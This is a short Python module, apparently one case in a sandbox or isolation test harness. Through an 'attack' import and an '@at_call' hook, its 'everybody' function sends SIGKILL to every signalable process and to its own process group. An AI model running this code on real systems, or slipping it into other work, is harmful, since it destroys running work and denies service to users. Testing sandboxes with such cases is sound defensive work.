import os
import signal

from attack import *


@at_call
def everybody():
    os.kill(-1, signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
